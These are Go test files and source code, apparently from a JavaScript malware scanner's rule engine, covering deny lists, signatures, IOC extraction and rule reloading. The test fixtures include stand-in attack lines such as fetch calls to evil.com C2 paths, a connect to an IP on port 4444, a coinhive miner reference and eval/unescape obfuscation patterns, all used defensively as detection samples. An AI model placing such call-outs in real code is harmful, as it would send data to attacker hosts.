package rules

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"jsrevealer/internal/js/parser"
	"jsrevealer/internal/obs"
)

// mustCompile parses one rule file and compiles it alone into a set.
func mustCompileFile(t *testing.T, src string) *Set {
	t.Helper()
	f, err := Parse("test.json", []byte(src))
	if err != nil {
		t.Fatalf("Parse: %v", err)
	}
	set, err := Compile([]*File{f})
	if err != nil {
		t.Fatalf("Compile: %v", err)
	}
	return set
}

func evalRaw(t *testing.T, s *Set, src string) Verdict {
	t.Helper()
	return s.Eval(context.Background(), Input{Name: "t.js", Raw: src, Normalized: src})
}

func TestDenyDomainMatching(t *testing.T) {
	set := mustCompileFile(t, `{
		"version": 1,
		"deny": [{"id": "exfil-domain", "domains": ["evil.com"]}]
	}`)
	cases := []struct {
		src  string
		want Action
	}{
		{`fetch("https://evil.com/c2")`, ActionMalicious},
		{`fetch("https://cdn.evil.com/c2")`, ActionMalicious},
		{`fetch("https://EVIL.COM/c2")`, ActionMalicious},
		{`fetch("https://notevil.com/ok")`, ActionNone},
		{`fetch("https://evil.community/ok")`, ActionNone},
		{`var x = 1;`, ActionNone},
	}
	for _, c := range cases {
		v := evalRaw(t, set, c.src)
		if v.Action != c.want {
			t.Errorf("Eval(%q).Action = %v, want %v (hits %v)", c.src, v.Action, c.want, v.Hits)
		}
		tv := set.EvalText(context.Background(), c.src)
		if tv.Action != c.want {
			t.Errorf("EvalText(%q).Action = %v, want %v", c.src, tv.Action, c.want)
		}
	}
	v := evalRaw(t, set, `fetch("https://cdn.evil.com/c2")`)
	if len(v.Hits) != 1 || v.Hits[0].Rule != "exfil-domain" || v.Hits[0].Kind != HitDeny {
		t.Fatalf("hits = %+v", v.Hits)
	}
	if v.Hits[0].Evidence != "cdn.evil.com" {
		t.Errorf("evidence = %q, want the matched host", v.Hits[0].Evidence)
	}
	if v.Hits[0].Severity != SeverityHigh {
		t.Errorf("deny severity default = %q, want %q", v.Hits[0].Severity, SeverityHigh)
	}
}

func TestDenyIPAndTLDAndString(t *testing.T) {
	set := mustCompileFile(t, `{
		"version": 1,
		"deny": [
			{"id": "c2-ip", "ips": ["10.9.8.7"]},
			{"id": "bad-tld", "tlds": [".xyz"]},
			{"id": "miner", "strings": ["coinhive.min"]}
		]
	}`)
	for src, rule := range map[string]string{
		`connect("10.9.8.7", 4444)`:       "c2-ip",
		`location = "http://drop.xyz/a"`:  "bad-tld",
		`load("/libs/coinhive.min.js")`:   "miner",
	} {
		v := evalRaw(t, set, src)
		if v.Action != ActionMalicious || len(v.Hits) == 0 || v.Hits[0].Rule != rule {
			t.Errorf("Eval(%q) = %+v, want deny by %s", src, v, rule)
		}
	}
	// Out-of-range octets are not IPs; digit runs must not alias.
	if v := evalRaw(t, set, `var v = "310.9.8.777";`); v.Action != ActionNone {
		t.Errorf("out-of-range IP matched: %+v", v)
	}
}

func TestAllowShortCircuitAndPrecedence(t *testing.T) {
	set := mustCompileFile(t, `{
		"version": 1,
		"allow": [{"id": "corp-cdn", "domains": ["assets.corp.example"]}],
		"deny": [{"id": "bad", "domains": ["evil.com"]}]
	}`)
	v := evalRaw(t, set, `load("https://assets.corp.example/app.js")`)
	if v.Action != ActionBenign || len(v.Hits) != 1 || v.Hits[0].Kind != HitAllow {
		t.Fatalf("allow verdict = %+v", v)
	}
	// Deny beats allow when both match.
	v = evalRaw(t, set, `load("https://assets.corp.example/app.js"); exfil("https://evil.com/x")`)
	if v.Action != ActionMalicious {
		t.Fatalf("deny should beat allow, got %+v", v)
	}
	if v.Hits[0].Kind != HitDeny {
		t.Errorf("deny hit should lead provenance, got %+v", v.Hits)
	}
	// EvalText never short-circuits benign: allow is decided with full context.
	tv := set.EvalText(context.Background(), `load("https://assets.corp.example/app.js")`)
	if tv.Action != ActionNone {
		t.Errorf("EvalText allow = %+v, want none", tv)
	}
}

func TestSignatureCombinators(t *testing.T) {
	set := mustCompileFile(t, `{
		"version": 1,
		"signatures": [
			{"id": "sig-force", "severity": "high", "match": {
				"all": [
					{"substring": "unescape("},
					{"regex": "new\\s+Function"},
					{"not": {"substring": "jquery"}}
				]
			}},
			{"id": "sig-note", "severity": "low", "match": {"substring": "debugger"}}
		]
	}`)
	v := evalRaw(t, set, `var p = unescape('%61'); var f = new   Function(p);`)
	if v.Action != ActionMalicious {
		t.Fatalf("forcing signature should force malicious: %+v", v)
	}
	if len(v.Hits) != 1 || v.Hits[0].Rule != "sig-force" || v.Hits[0].Kind != HitSignature {
		t.Fatalf("hits = %+v", v.Hits)
	}
	// The not-branch suppresses the match.
	v = evalRaw(t, set, `// jquery\nvar p = unescape('%61'); var f = new Function(p);`)
	if v.Action != ActionNone {
		t.Errorf("not-combinator should suppress: %+v", v)
	}
	// Annotating severity records a hit but leaves the verdict alone.
	v = evalRaw(t, set, `debugger;`)
	if v.Action != ActionNone || len(v.Hits) != 1 || v.Hits[0].Rule != "sig-note" {
		t.Errorf("annotate = %+v", v)
	}
}

func TestSignatureRef(t *testing.T) {
	set := mustCompileFile(t, `{
		"version": 1,
		"signatures": [
			{"id": "base-eval", "severity": "info", "match": {"substring": "eval("}},
			{"id": "eval-plus-escape", "severity": "critical", "match": {
				"all": [{"ref": "base-eval"}, {"substring": "unescape("}]
			}}
		]
	}`)
	v := evalRaw(t, set, `eval(unescape('%61%6c'))`)
	if v.Action != ActionMalicious {
		t.Fatalf("ref composition: %+v", v)
	}
	seen := map[string]bool{}
	for _, h := range v.Hits {
		seen[h.Rule] = true
	}
	if !seen["base-eval"] || !seen["eval-plus-escape"] {
		t.Errorf("both signatures should hit: %+v", v.Hits)
	}
}

func TestSignatureNormalizedView(t *testing.T) {
	set := mustCompileFile(t, `{
		"version": 1,
		"deny": [{"id": "hidden-c2", "domains": ["evil.com"]}]
	}`)
	// The IOC appears only in the deobfuscated view.
	raw := `var h = "ev" + "il" + ".c" + "om";`
	norm := `var h = "evil.com";`
	v := set.Eval(context.Background(), Input{Raw: raw, Normalized: norm})
	if v.Action != ActionMalicious {
		t.Fatalf("normalized view should be matched: %+v", v)
	}
}

func TestPathPredicate(t *testing.T) {
	set := mustCompileFile(t, `{
		"version": 1,
		"signatures": [{"id": "deep-call", "severity": "high", "match": {
			"path": {"node": "CallExpression", "min_count": 1}
		}}]
	}`)
	if !set.NeedsAST() {
		t.Fatal("path predicate should set NeedsAST")
	}
	src := `var x = unescape("%61"); eval(x);`
	prog, err := parser.Parse(src)
	if err != nil {
		t.Fatal(err)
	}
	v := set.Eval(context.Background(), Input{Raw: src, Normalized: src, Prog: prog})
	if v.Action != ActionMalicious {
		t.Fatalf("path predicate should match a call-crossing path: %+v", v)
	}
	// Without an AST the path predicate cannot match.
	v = set.Eval(context.Background(), Input{Raw: src, Normalized: src})
	if v.Action != ActionNone {
		t.Errorf("no AST, no path match: %+v", v)
	}
	// An impossible min_count must not match.
	set2 := mustCompileFile(t, `{
		"version": 1,
		"signatures": [{"id": "deep-call", "severity": "high", "match": {
			"path": {"node": "CallExpression", "min_count": 100000}
		}}]
	}`)
	if v := set2.Eval(context.Background(), Input{Raw: src, Normalized: src, Prog: prog}); v.Action != ActionNone {
		t.Errorf("min_count should gate: %+v", v)
	}
}

func TestHitCapAndDedup(t *testing.T) {
	set := mustCompileFile(t, `{
		"version": 1,
		"deny": [{"id": "multi", "domains": ["evil.com"], "strings": ["evil.com"]}]
	}`)
	v := evalRaw(t, set, `a("evil.com"); b("evil.com")`)
	if len(v.Hits) != 1 {
		t.Errorf("one rule, one hit: %+v", v.Hits)
	}
}

func TestNilSetIsInert(t *testing.T) {
	var s *Set
	if v := s.Eval(context.Background(), Input{Raw: "x"}); v.Action != ActionNone || v.Hits != nil {
		t.Fatalf("nil Eval = %+v", v)
	}
	if v := s.EvalText(context.Background(), "x"); v.Action != ActionNone {
		t.Fatalf("nil EvalText = %+v", v)
	}
	if s.Rules() != 0 || s.Files() != 0 || s.NeedsAST() {
		t.Fatal("nil accessors should be zero")
	}
}

func TestEvalMetrics(t *testing.T) {
	set := mustCompileFile(t, `{
		"version": 1,
		"deny": [{"id": "m-rule", "domains": ["evil.com"]}]
	}`)
	reg := obs.NewRegistry()
	ctx := obs.WithRegistry(context.Background(), reg)
	set.Eval(ctx, Input{Raw: `f("https://evil.com/")`})
	snap := reg.Snapshot()
	foundEval, foundHit := false, false
	for _, p := range snap.Counters {
		switch {
		case p.Name == EvalsMetric && p.Labels["outcome"] == "deny" && p.Value == 1:
			foundEval = true
		case p.Name == HitsMetric && p.Labels["rule"] == "m-rule" && p.Value == 1:
			foundHit = true
		}
	}
	if !foundEval || !foundHit {
		t.Fatalf("metrics missing: eval=%v hit=%v", foundEval, foundHit)
	}
}

func writeRuleFile(t *testing.T, dir, name, content string) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func TestLoadDirMergesFiles(t *testing.T) {
	dir := t.TempDir()
	writeRuleFile(t, dir, "a.json", `{"version":1,"deny":[{"id":"a","domains":["a.evil"]}]}`)
	writeRuleFile(t, dir, "b.json", `{"version":1,"signatures":[{"id":"b","match":{"substring":"x"}}]}`)
	writeRuleFile(t, dir, "notes.txt", `not a rule file`)
	set, err := Load(dir)
	if err != nil {
		t.Fatal(err)
	}
	if set.Files() != 2 || set.Rules() != 2 {
		t.Fatalf("Files=%d Rules=%d", set.Files(), set.Rules())
	}
}

func TestHolderReloadAndRejection(t *testing.T) {
	dir := t.TempDir()
	writeRuleFile(t, dir, "r.json", `{"version":1,"deny":[{"id":"d1","domains":["evil.com"]}]}`)
	h := NewHolder(dir, obs.NewRegistry())
	if h.Current() != nil {
		t.Fatal("no set before first reload")
	}
	info, err := h.Reload()
	if err != nil {
		t.Fatal(err)
	}
	if info.Gen != 1 || info.Rules != 1 || info.Reloads != 1 {
		t.Fatalf("info = %+v", info)
	}
	gen1 := h.Current()

	// A broken file must not displace the live set.
	writeRuleFile(t, dir, "r.json", `{"version":1,"deny":[{"id":`)
	if _, err := h.Reload(); err == nil {
		t.Fatal("broken file should fail reload")
	}
	if h.Current() != gen1 {
		t.Fatal("live set must survive a failed reload")
	}

	// A fixed file takes a new generation.
	writeRuleFile(t, dir, "r.json", `{"version":1,"deny":[{"id":"d2","domains":["worse.com"]}]}`)
	info, err = h.Reload()
	if err != nil {
		t.Fatal(err)
	}
	if info.Gen != 2 {
		t.Fatalf("gen = %d, want 2", info.Gen)
	}
	if h.Current() == gen1 {
		t.Fatal("reload should swap generations")
	}
}

func TestShadowValidationRejectsOverbroadDeny(t *testing.T) {
	dir := t.TempDir()
	// Denying "function" would flag essentially every script on the web.
	writeRuleFile(t, dir, "r.json", `{"version":1,"deny":[{"id":"fat-finger","strings":["function"]}]}`)
	h := NewHolder(dir, obs.NewRegistry())
	if _, err := h.Reload(); err == nil {
		t.Fatal("overbroad deny must be rejected by shadow validation")
	}
	if h.Current() != nil {
		t.Fatal("rejected set must not take traffic")
	}
	// A forcing signature matching benign code is rejected the same way.
	writeRuleFile(t, dir, "r.json", `{"version":1,"signatures":[{"id":"everything","severity":"critical","match":{"regex":"."}}]}`)
	if _, err := h.Reload(); err == nil {
		t.Fatal("overbroad forcing signature must be rejected")
	}
	// An annotating signature over common code is fine.
	writeRuleFile(t, dir, "r.json", `{"version":1,"signatures":[{"id":"fn","severity":"info","match":{"substring":"function"}}]}`)
	if _, err := h.Reload(); err != nil {
		t.Fatalf("annotating signature should pass shadow validation: %v", err)
	}
}

func TestShouldAlert(t *testing.T) {
	cases := []struct {
		hits []Hit
		want bool
	}{
		{nil, false},
		{[]Hit{{Rule: "a", Kind: HitAllow}}, false},
		{[]Hit{{Rule: "s", Kind: HitSignature, Severity: SeverityLow}}, false},
		{[]Hit{{Rule: "s", Kind: HitSignature, Severity: SeverityCritical}}, true},
		{[]Hit{{Rule: "d", Kind: HitDeny, Severity: SeverityHigh}}, true},
	}
	for _, c := range cases {
		if got := ShouldAlert(c.hits); got != c.want {
			t.Errorf("ShouldAlert(%+v) = %v", c.hits, got)
		}
	}
}
