// Hostile rule-file suite: every malformed, oversized, cyclic, or
// nonsensical rule set must fail loudly at load — never truncate, never
// partially apply, never take traffic.
package rules

import (
	"strings"
	"testing"
)

func TestParseRejectsHostileFiles(t *testing.T) {
	deep := strings.Repeat(`{"not":`, MaxMatchDepth+1) + `{"substring":"x"}` + strings.Repeat(`}`, MaxMatchDepth+1)
	wide := `{"all":[` + strings.TrimSuffix(strings.Repeat(`{"substring":"x"},`, MaxMatchNodes+1), ",") + `]}`
	cases := []struct {
		name string
		src  string
		want string // substring of the error
	}{
		{"malformed json", `{"version":1,`, "unexpected EOF"},
		{"trailing garbage", `{"version":1,"deny":[{"id":"a","domains":["x.co"]}]} {"more":1}`, "trailing data"},
		{"unknown field", `{"version":1,"signature":[{"id":"a"}]}`, "unknown field"},
		{"missing version", `{"deny":[{"id":"a","domains":["x.co"]}]}`, "version 0"},
		{"wrong version", `{"version":2,"deny":[{"id":"a","domains":["x.co"]}]}`, "version 2, want 1"},
		{"list without id", `{"version":1,"deny":[{"domains":["x.co"]}]}`, "missing id"},
		{"empty list rule", `{"version":1,"deny":[{"id":"a"}]}`, "no entries"},
		{"empty list entry", `{"version":1,"deny":[{"id":"a","domains":[""]}]}`, "empty list entry"},
		{"bad severity", `{"version":1,"deny":[{"id":"a","severity":"fatal","domains":["x.co"]}]}`, "unknown severity"},
		{"sig without match", `{"version":1,"signatures":[{"id":"s"}]}`, "missing match"},
		{"empty matcher", `{"version":1,"signatures":[{"id":"s","match":{}}]}`, "empty match node"},
		{"two-field matcher", `{"version":1,"signatures":[{"id":"s","match":{"substring":"a","regex":"b"}}]}`, "want exactly one"},
		{"bad regex", `{"version":1,"signatures":[{"id":"s","match":{"regex":"("}}]}`, "bad regex"},
		{"oversized regex", `{"version":1,"signatures":[{"id":"s","match":{"regex":"` + strings.Repeat("a", MaxRegexLen+1) + `"}}]}`, "regex longer"},
		{"vacuous path pred", `{"version":1,"signatures":[{"id":"s","match":{"path":{}}}]}`, "constrains nothing"},
		{"negative min_count", `{"version":1,"signatures":[{"id":"s","match":{"path":{"node":"CallExpression","min_count":-1}}}]}`, "negative min_count"},
		{"over-deep tree", `{"version":1,"signatures":[{"id":"s","match":` + deep + `}]}`, "deeper than"},
		{"over-wide tree", `{"version":1,"signatures":[{"id":"s","match":` + wide + `}]}`, "match nodes"},
	}
	for _, c := range cases {
		_, err := Parse(c.name+".json", []byte(c.src))
		if err == nil {
			t.Errorf("%s: Parse accepted hostile input", c.name)
			continue
		}
		if !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: error %q does not mention %q", c.name, err, c.want)
		}
	}
}

func TestParseRejectsOversizedFile(t *testing.T) {
	big := make([]byte, MaxFileBytes+1)
	if _, err := Parse("big.json", big); err == nil || !strings.Contains(err.Error(), "limit") {
		t.Fatalf("oversized file: %v", err)
	}
}

func TestCompileRejectsCrossFileHazards(t *testing.T) {
	parse := func(name, src string) *File {
		t.Helper()
		f, err := Parse(name, []byte(src))
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		return f
	}
	t.Run("duplicate ids across files", func(t *testing.T) {
		a := parse("a.json", `{"version":1,"deny":[{"id":"dup","domains":["x.co"]}]}`)
		b := parse("b.json", `{"version":1,"signatures":[{"id":"dup","match":{"substring":"x"}}]}`)
		if _, err := Compile([]*File{a, b}); err == nil || !strings.Contains(err.Error(), "duplicate") {
			t.Fatalf("err = %v", err)
		}
	})
	t.Run("dangling ref", func(t *testing.T) {
		a := parse("a.json", `{"version":1,"signatures":[{"id":"s","match":{"ref":"ghost"}}]}`)
		if _, err := Compile([]*File{a}); err == nil || !strings.Contains(err.Error(), "does not name a signature") {
			t.Fatalf("err = %v", err)
		}
	})
	t.Run("ref cycle", func(t *testing.T) {
		a := parse("a.json", `{"version":1,"signatures":[
			{"id":"x","match":{"all":[{"substring":"a"},{"ref":"y"}]}},
			{"id":"y","match":{"any":[{"ref":"z"}]}},
			{"id":"z","match":{"not":{"ref":"x"}}}
		]}`)
		if _, err := Compile([]*File{a}); err == nil || !strings.Contains(err.Error(), "cycle") {
			t.Fatalf("err = %v", err)
		}
	})
	t.Run("self ref", func(t *testing.T) {
		a := parse("a.json", `{"version":1,"signatures":[{"id":"x","match":{"ref":"x"}}]}`)
		if _, err := Compile([]*File{a}); err == nil || !strings.Contains(err.Error(), "cycle") {
			t.Fatalf("err = %v", err)
		}
	})
	t.Run("cross-file ref resolves", func(t *testing.T) {
		a := parse("a.json", `{"version":1,"signatures":[{"id":"base","match":{"substring":"eval("}}]}`)
		b := parse("b.json", `{"version":1,"signatures":[{"id":"uses","severity":"high","match":{"ref":"base"}}]}`)
		if _, err := Compile([]*File{a, b}); err != nil {
			t.Fatalf("cross-file ref should compile: %v", err)
		}
	})
}

func TestLoadRejectsBadDirectories(t *testing.T) {
	if _, err := Load(t.TempDir()); err == nil || !strings.Contains(err.Error(), "no *.json") {
		t.Fatalf("empty dir: %v", err)
	}
	if _, err := Load("/nonexistent-rules-dir"); err == nil {
		t.Fatal("missing dir should error")
	}
}

func TestTooManyRules(t *testing.T) {
	var sb strings.Builder
	sb.WriteString(`{"version":1,"deny":[`)
	for i := 0; i <= MaxRules; i++ {
		if i > 0 {
			sb.WriteString(",")
		}
		sb.WriteString(`{"id":"r`)
		for _, d := range []byte{byte('0' + i/1000%10), byte('0' + i/100%10), byte('0' + i/10%10), byte('0' + i%10)} {
			sb.WriteByte(d)
		}
		sb.WriteString(`","domains":["x.co"]}`)
	}
	sb.WriteString(`]}`)
	f, err := Parse("many.json", []byte(sb.String()))
	if err != nil {
		t.Fatalf("Parse: %v", err)
	}
	if _, err := Compile([]*File{f}); err == nil || !strings.Contains(err.Error(), "more than") {
		t.Fatalf("err = %v", err)
	}
}
