// FuzzRuleParse pins the load path's core safety property: arbitrary bytes
// never panic or hang the parser, and anything Parse accepts must also
// compile and evaluate without panicking — the exact sequence a hot reload
// runs on an operator-supplied file.
package rules

import (
	"context"
	"testing"
)

func FuzzRuleParse(f *testing.F) {
	f.Add([]byte(`{"version":1,"deny":[{"id":"a","domains":["evil.com"],"ips":["1.2.3.4"],"tlds":[".xyz"],"strings":["coinhive"]}]}`))
	f.Add([]byte(`{"version":1,"allow":[{"id":"b","domains":["ok.example"]}]}`))
	f.Add([]byte(`{"version":1,"signatures":[{"id":"s","severity":"high","match":{"all":[{"substring":"eval("},{"any":[{"regex":"new\\s+Function"},{"not":{"substring":"jquery"}}]},{"path":{"node":"CallExpression","min_count":2}}]}}]}`))
	f.Add([]byte(`{"version":1,"signatures":[{"id":"x","match":{"ref":"y"}},{"id":"y","match":{"substring":"z"}}]}`))
	f.Add([]byte(`{"version":1`))
	f.Add([]byte(`[]`))
	f.Add([]byte{0xff, 0xfe, 0x00})
	f.Fuzz(func(t *testing.T, data []byte) {
		file, err := Parse("fuzz.json", data)
		if err != nil {
			return
		}
		set, err := Compile([]*File{file})
		if err != nil {
			return
		}
		ctx := context.Background()
		const probe = `var u = "https://cdn.evil.com/x?a=1"; eval(unescape('%61'));`
		set.EvalText(ctx, probe)
		set.Eval(ctx, Input{Name: "fuzz.js", Raw: probe, Normalized: probe})
	})
}
