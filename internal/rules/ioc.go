// IOC extraction and list matching. Indicators are matched against
// host-shaped and IPv4-shaped tokens pulled out of the script text (raw and
// deobfuscated) and out of AST string literals, not by blind substring
// search: "evil.com" on a deny list must flag cdn.evil.com but never
// notevil.com. EvalText's substring prefilter is only an admission gate —
// every prefilter hit is confirmed by proper extraction before it counts.
package rules

import (
	"regexp"
	"strings"
)

// Extraction regexes. Host demands at least two labels with an alphabetic
// final label of plausible TLD length, which also keeps it from matching the
// numeric tokens the IP regex owns.
var (
	reHost = regexp.MustCompile(`(?i)[a-z0-9](?:[a-z0-9-]{0,62})(?:\.[a-z0-9](?:[a-z0-9-]{0,62}))*\.[a-z]{2,24}\b`)
	reIP   = regexp.MustCompile(`(?:\d{1,3}\.){3}\d{1,3}`)
)

// maxIOCTokens caps extraction per text so a hostile script cannot turn
// rule evaluation into unbounded work.
const maxIOCTokens = 512

// iocSet holds the deduplicated host and IP tokens extracted from one
// script's views.
type iocSet struct {
	hosts []string // lowercase
	ips   []string
}

// extractInto scans s and appends newly seen host/IP tokens, lowercased and
// deduplicated via seen, up to maxIOCTokens per category.
func (io *iocSet) extractInto(s string, seen map[string]bool) {
	if len(io.hosts) < maxIOCTokens {
		for _, h := range reHost.FindAllString(s, maxIOCTokens-len(io.hosts)) {
			h = strings.ToLower(h)
			if !seen["h:"+h] {
				seen["h:"+h] = true
				io.hosts = append(io.hosts, h)
			}
		}
	}
	if len(io.ips) < maxIOCTokens {
		for _, ip := range reIP.FindAllString(s, maxIOCTokens-len(io.ips)) {
			if validIPv4(ip) && !seen["i:"+ip] {
				seen["i:"+ip] = true
				io.ips = append(io.ips, ip)
			}
		}
	}
}

// validIPv4 rejects dotted quads with out-of-range octets, which the
// deliberately loose regex lets through.
func validIPv4(s string) bool {
	for _, part := range strings.SplitN(s, ".", 4) {
		if len(part) > 1 && part[0] == '0' {
			return false
		}
		n := 0
		for i := 0; i < len(part); i++ {
			n = n*10 + int(part[i]-'0')
		}
		if n > 255 {
			return false
		}
	}
	return true
}

// matchList checks one compiled list against the extracted IOCs and the
// script texts, returning the first matching indicator as evidence.
func (cl *compiledList) match(io *iocSet, texts []string) (string, bool) {
	for _, h := range io.hosts {
		for _, d := range cl.domains {
			if hostMatches(h, d) {
				return h, true
			}
		}
		for _, t := range cl.tlds {
			if strings.HasSuffix(h, "."+t) {
				return h, true
			}
		}
	}
	if cl.ips != nil {
		for _, ip := range io.ips {
			if _, ok := cl.ips[ip]; ok {
				return ip, true
			}
		}
	}
	for _, s := range cl.strs {
		for _, text := range texts {
			if strings.Contains(text, s) {
				return s, true
			}
		}
	}
	return "", false
}

// hostMatches reports whether host equals domain or is a subdomain of it.
// Both are lowercase.
func hostMatches(host, domain string) bool {
	if host == domain {
		return true
	}
	return len(host) > len(domain) && strings.HasSuffix(host, domain) &&
		host[len(host)-len(domain)-1] == '.'
}

// containsFold reports whether s contains needle ASCII-case-insensitively,
// without allocating: the pre-triage prefilter runs on every scanned script,
// so it cannot afford to lowercase multi-megabyte sources.
func containsFold(s, needle string) bool {
	n := len(needle)
	if n == 0 {
		return true
	}
	if n > len(s) {
		return false
	}
	c0 := lowerByte(needle[0])
	for i := 0; i+n <= len(s); i++ {
		if lowerByte(s[i]) != c0 {
			continue
		}
		j := 1
		for j < n && lowerByte(s[i+j]) == lowerByte(needle[j]) {
			j++
		}
		if j == n {
			return true
		}
	}
	return false
}

func lowerByte(b byte) byte {
	if 'A' <= b && b <= 'Z' {
		return b + 'a' - 'A'
	}
	return b
}
