// Evaluation: turning a compiled Set plus one script's views into a rule
// Verdict. Two entry points exist because the scan pipeline is tiered:
// EvalText is the cheap pre-triage pass that guarantees deny-listed IOCs can
// never be cleared by the lexical pre-filter, and Eval is the full pass that
// runs post-deobfuscation so encoded indicators and signature patterns are
// matched against the decoded view as well as the raw one.
package rules

import (
	"context"
	"strings"

	"jsrevealer/internal/js/ast"
	"jsrevealer/internal/obs"
	"jsrevealer/internal/pathctx"
)

// Hit kinds carried on Hit.Kind.
const (
	// HitDeny marks a deny-list match (forces malicious).
	HitDeny = "deny"
	// HitAllow marks an allow-list match (short-circuits benign unless
	// overridden by a deny or forcing signature).
	HitAllow = "allow"
	// HitSignature marks a signature match; whether it forced the verdict
	// depends on its severity.
	HitSignature = "signature"
)

// MaxHits caps the rule hits recorded per scan; beyond it further matches
// still count toward the verdict but are not enumerated in provenance.
const MaxHits = 16

// Hit is one rule match, surfaced as rule_hits provenance in scan results,
// the serving API, alerts, and the audit trail.
type Hit struct {
	// Rule is the matching rule's ID.
	Rule string `json:"rule"`
	// Kind is HitDeny, HitAllow, or HitSignature.
	Kind string `json:"kind"`
	// Severity is the rule's severity.
	Severity string `json:"severity,omitempty"`
	// Evidence names what matched: the IOC token, the substring or
	// pattern, or a path-predicate summary.
	Evidence string `json:"evidence,omitempty"`
}

// Action is the rule layer's contribution to the combined verdict.
type Action int

// Actions, in increasing precedence of what they override.
const (
	// ActionNone leaves the verdict to the model (hits, if any, only
	// annotate).
	ActionNone Action = iota
	// ActionBenign short-circuits the verdict to benign (allow hit).
	ActionBenign
	// ActionMalicious forces the verdict to malicious (deny or forcing
	// signature hit).
	ActionMalicious
)

// Verdict is the outcome of evaluating a rule set over one script.
type Verdict struct {
	// Action is what the rule layer demands of the combined verdict.
	Action Action
	// Hits are the matched rules, deny first, then signatures, then
	// allow, capped at MaxHits.
	Hits []Hit
}

// Input is one script's views handed to Eval: the raw bytes as submitted,
// the deobfuscated source when normalization ran (empty or equal to Raw
// otherwise), and optionally the parsed program for path predicates (the
// engine parses only when NeedsAST reports a rule wants it).
type Input struct {
	// Name is the script's name, used only for diagnostics.
	Name string
	// Raw is the source as submitted.
	Raw string
	// Normalized is the deobfuscated source; may be empty or equal Raw.
	Normalized string
	// Prog is the parsed (normalized) program, or nil.
	Prog *ast.Program
}

// ShouldAlert reports whether hits warrant pushing an alert: any deny hit
// or any forcing-severity signature hit.
func ShouldAlert(hits []Hit) bool {
	for _, h := range hits {
		if h.Kind == HitDeny || (h.Kind == HitSignature && Forcing(h.Severity)) {
			return true
		}
	}
	return false
}

// EvalText is the pre-triage stage: deny lists only, against the raw bytes.
// It exists so a deny-listed IOC is caught even on scripts the lexical
// triage tier would clear without parsing. The fast path is a substring
// prefilter; extraction and proper host/IP confirmation run only when a
// probe hits, so clean traffic pays a near-zero toll. Safe on nil.
func (s *Set) EvalText(ctx context.Context, raw string) Verdict {
	if s == nil || len(s.deny) == 0 {
		return Verdict{}
	}
	hit := false
	for _, n := range s.denyNeedles {
		if n.fold {
			if containsFold(raw, n.s) {
				hit = true
				break
			}
		} else if strings.Contains(raw, n.s) {
			hit = true
			break
		}
	}
	if !hit {
		return Verdict{}
	}
	texts := []string{raw}
	io := extractIOCs(texts)
	var v Verdict
	for _, cl := range s.deny {
		if ev, ok := cl.match(io, texts); ok {
			v.addHit(Hit{Rule: cl.id, Kind: HitDeny, Severity: cl.severity, Evidence: ev})
		}
	}
	if len(v.Hits) > 0 {
		v.Action = ActionMalicious
		s.record(ctx, &v, "deny")
	}
	return v
}

// Eval is the full rule pass, run in the pipeline after deobfuscation: IOC
// lists over the raw and normalized views plus AST string literals, and
// every signature, with path contexts extracted lazily only when a reached
// path predicate needs them. Safe on nil (matches nothing).
func (s *Set) Eval(ctx context.Context, in Input) Verdict {
	if s == nil {
		return Verdict{}
	}
	texts := []string{in.Raw}
	if in.Normalized != "" && in.Normalized != in.Raw {
		texts = append(texts, in.Normalized)
	}
	io := extractIOCs(texts)
	if in.Prog != nil {
		seen := seedSeen(io)
		ast.Walk(in.Prog, func(n ast.Node) bool {
			if lit, ok := n.(*ast.Literal); ok && lit.Kind == ast.LiteralString {
				io.extractInto(lit.StrVal, seen)
			}
			return true
		})
	}

	var deny, allow, sig []Hit
	for _, cl := range s.deny {
		if ev, ok := cl.match(io, texts); ok {
			deny = append(deny, Hit{Rule: cl.id, Kind: HitDeny, Severity: cl.severity, Evidence: ev})
		}
	}
	for _, cl := range s.allow {
		if ev, ok := cl.match(io, texts); ok {
			allow = append(allow, Hit{Rule: cl.id, Kind: HitAllow, Severity: cl.severity, Evidence: ev})
		}
	}
	ec := &evalCtx{texts: texts, prog: in.Prog}
	forcing := false
	for _, cs := range s.sigs {
		if ctx.Err() != nil {
			break
		}
		if ev, ok := ec.eval(cs.match); ok {
			sig = append(sig, Hit{Rule: cs.id, Kind: HitSignature, Severity: cs.severity, Evidence: ev})
			if Forcing(cs.severity) {
				forcing = true
			}
		}
	}

	var v Verdict
	for _, h := range deny {
		v.addHit(h)
	}
	for _, h := range sig {
		v.addHit(h)
	}
	for _, h := range allow {
		v.addHit(h)
	}
	outcome := "none"
	switch {
	case len(deny) > 0:
		v.Action, outcome = ActionMalicious, "deny"
	case forcing:
		v.Action, outcome = ActionMalicious, "force"
	case len(allow) > 0:
		v.Action, outcome = ActionBenign, "allow"
	case len(sig) > 0:
		outcome = "annotate"
	}
	s.record(ctx, &v, outcome)
	return v
}

// addHit appends h unless the provenance cap is reached or the rule already
// hit (a rule records at most one hit per scan).
func (v *Verdict) addHit(h Hit) {
	if len(v.Hits) >= MaxHits {
		return
	}
	for _, e := range v.Hits {
		if e.Rule == h.Rule {
			return
		}
	}
	v.Hits = append(v.Hits, h)
}

// record bumps the per-outcome and per-rule counters on the context's
// metrics registry.
func (s *Set) record(ctx context.Context, v *Verdict, outcome string) {
	reg := obs.FromContext(ctx)
	reg.Counter(metricEvals, helpEvals, obs.Labels{"outcome": outcome}).Inc()
	for _, h := range v.Hits {
		reg.Counter(metricHits, helpHits, obs.Labels{"rule": h.Rule}).Inc()
	}
}

// extractIOCs builds the IOC token set for a script's text views.
func extractIOCs(texts []string) *iocSet {
	io := &iocSet{}
	seen := map[string]bool{}
	for _, t := range texts {
		io.extractInto(t, seen)
	}
	return io
}

// seedSeen rebuilds the dedup map for an existing iocSet so literal-walk
// extraction can continue where text extraction stopped.
func seedSeen(io *iocSet) map[string]bool {
	seen := make(map[string]bool, len(io.hosts)+len(io.ips))
	for _, h := range io.hosts {
		seen["h:"+h] = true
	}
	for _, ip := range io.ips {
		seen["i:"+ip] = true
	}
	return seen
}

// evalCtx carries one script's views through a signature match tree, with
// path contexts extracted at most once and only on first use.
type evalCtx struct {
	texts []string
	prog  *ast.Program

	paths     []pathctx.Path
	pathsDone bool
}

// eval evaluates one compiled match node, returning whether it matched and
// the first concrete evidence found.
func (ec *evalCtx) eval(m *compiledMatch) (string, bool) {
	switch m.op {
